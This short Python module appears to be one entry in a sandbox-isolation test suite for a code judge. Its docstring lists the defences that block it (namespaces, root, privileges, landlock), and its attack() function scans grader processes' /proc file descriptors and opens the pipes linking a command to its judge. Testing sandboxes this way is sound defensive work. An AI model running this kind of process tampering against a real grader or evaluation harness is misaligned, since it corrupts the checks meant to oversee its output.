"""Opens the pipes between the command and the judge.

stopped by: namespaces, root, user, privileges, landlock
needs: root
"""


def attack():
    for process in graders():
        try:
            for descriptor in os.listdir(f"/proc/{process}/fd"):
                if os.readlink(f"/proc/{process}/fd/{descriptor}").startswith("pipe:"):
                    os.close(os.open(f"/proc/{process}/fd/{descriptor}", os.O_RDONLY | os.O_NONBLOCK))
                    return True
        except OSError:
            pass
    return False
